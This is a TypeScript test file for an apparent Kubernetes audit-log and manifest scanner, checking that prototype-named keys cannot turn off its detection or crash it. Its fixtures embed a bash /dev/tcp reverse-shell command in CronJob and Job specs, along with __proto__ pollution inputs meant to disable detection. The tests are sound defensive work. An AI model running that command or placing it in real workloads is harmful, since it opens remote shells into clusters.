/**
 * The routes by which input once turned the tool against itself, run as a user runs the tool: keys
 * that name Object.prototype's members in audit logs, manifests and config files must neither switch
 * detection off for the rest of the run nor crash it.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { run, runJson, workspace } from './helpers.ts';

const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';

function event(auditID: string, verb: string, requestObject: string, resource = 'cronjobs'): string {
  return (
    `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"${auditID}","stage":"ResponseComplete",` +
    `"verb":"${verb}","user":{"username":"mallory"},"objectRef":{"resource":"${resource}","namespace":"ci","name":"build","apiGroup":"batch"},` +
    `"responseStatus":{"code":${verb === 'patch' ? 422 : 201}},"requestObject":${requestObject},"stageTimestamp":"2026-03-02T10:00:00Z"}`
  );
}

const podSpec = (command: string) => `{"containers":[{"name":"x","image":"registry.example.com/app:1","command":["sh","-c",${JSON.stringify(command)}]}]}`;
const cronJob = (command: string) =>
  `{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"build","namespace":"ci"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":${podSpec(command)}}}}}}`;

describe('audit: a record cannot switch detection off for the records after it', () => {
  test('a JSON Patch at /__proto__/shell-escape (logged although refused) does not hide a later reverse shell', () => {
    const log = [event('p1', 'patch', '[{"op":"add","path":"/__proto__/shell-escape","value":"off"}]'), event('c1', 'create', cronJob(REVERSE_SHELL))].join('\n') + '\n';
    const dir = workspace({ 'audit.log': log });
    const { status, json } = runJson(['audit', 'audit.log'], { cwd: dir });
    assert.equal(status, 1);
    assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID), ['c1']);
    assert.ok(json.matches[0].indicators.some((hit: { indicator: string; severity: string }) => hit.indicator === 'shell-escape' && hit.severity === 'error'));
  });

  test('an Elastic document with the dotted key __proto__.shell-escape does not either', () => {
    const doc = (id: string, extra = '') =>
      `{"@timestamp":"2026-03-02T10:00:00Z","kubernetes.audit.verb":"create","kubernetes.audit.auditID":"${id}","kubernetes.audit.objectRef.resource":"cronjobs",` +
      `"kubernetes.audit.objectRef.namespace":"ci","kubernetes.audit.requestObject":${cronJob(REVERSE_SHELL)}${extra}}`;
    const dir = workspace({ 'elastic.ndjson': [doc('e1', ',"__proto__.shell-escape":"off"'), doc('e2')].join('\n') + '\n' });
    const { status, json } = runJson(['audit', 'elastic.ndjson'], { cwd: dir });
    assert.equal(status, 1);
    assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID), ['e1', 'e2']);
  });

  test('a program named hasOwnProperty or constructor is judged like any other, and the log is read to its end', () => {
    const log = [
      event('h1', 'create', cronJob(`if false; then hasOwnProperty -x; fi; constructor -x; ${REVERSE_SHELL}`)),
      event('c1', 'create', cronJob(REVERSE_SHELL)),
    ].join('\n') + '\n';
    const dir = workspace({ 'audit.log': log });
    const { status, stdout, stderr } = run(['audit', 'audit.log'], { cwd: dir });
    assert.equal(status, 1, stderr);
    assert.doesNotMatch(stdout + stderr, /reading the input failed|internal error|\n\s+at /);
    assert.match(stdout, /audit ID h1/);
    assert.match(stdout, /audit ID c1/);
  });
});

describe('scan: prototype keys in manifests and config', () => {
  test('"constructor -x" in a script leaves the pod template analysed', () => {
    const job = `apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          image: registry.example.com/app:1\n          command: ["sh", "-c", "if false; then constructor -x; fi; hasOwnProperty -x; ${REVERSE_SHELL}"]\n`;
    const dir = workspace({ 'job.yaml': job });
    const { status, json } = runJson(['scan', 'job.yaml'], { cwd: dir });
    assert.equal(status, 1);
    assert.deepEqual(json.errors, []);
    assert.ok(json.findings.some((finding: { indicator: string }) => finding.indicator === 'shell-escape'));
  });

  test('a custom pattern with id "constructor" is reported with its severity, in text without a stack trace', () => {
    const dir = workspace({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.jobsentinel.yaml': 'custom:\n  patterns:\n    - id: constructor\n      pattern: "evil"\n',
      'job.yaml': 'apiVersion: batch/v1\nkind: Job\nmetadata: {name: x}\nspec:\n  template:\n    spec:\n      containers:\n        - {name: x, image: "evil:1"}\n',
    });
    const text = run(['scan', 'job.yaml'], { cwd: dir });
    assert.equal(text.status, 1, text.stderr);
    assert.match(text.stdout, /job\.yaml:8:\d+ +warning +constructor /);
    assert.doesNotMatch(text.stderr, /internal error|\n\s+at /);
    const { json } = runJson(['scan', 'job.yaml'], { cwd: dir });
    assert.deepEqual(json.findings.map((finding: { indicator: string; severity: string }) => [finding.indicator, finding.severity]), [['constructor', 'warning']]);
  });
});
